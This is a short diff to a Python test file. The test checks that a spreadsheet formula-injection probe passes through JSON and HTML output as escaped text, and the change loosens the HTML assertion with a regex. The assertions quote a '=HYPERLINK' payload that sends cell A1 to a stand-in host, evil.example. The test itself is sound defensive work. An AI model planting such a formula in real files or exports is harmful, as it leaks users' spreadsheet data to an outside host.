@@ -6,6 +6,7 @@ from __future__ import annotations
 import csv
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
@@ -129,4 +130,5 @@ def test_the_probe_goes_through_json_and_html_as_data(hostile_site):
     assert titles["formula_probe.md"].startswith('=HYPERLINK("http://evil.example/?leak="&A1,')
     assert len(data["manifest"]) == len(list(HOSTILE.iterdir()))
     corpus = (hostile_site / "01-corpus.html").read_text(encoding="utf-8")
-    assert "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1" in corpus
+    # shown as escaped text (quotes may be written as &quot; or as they are inside a text node)
+    assert re.search(r'=HYPERLINK\((?:&quot;|")http://evil\.example/\?leak=(?:&quot;|")&amp;A1', corpus)
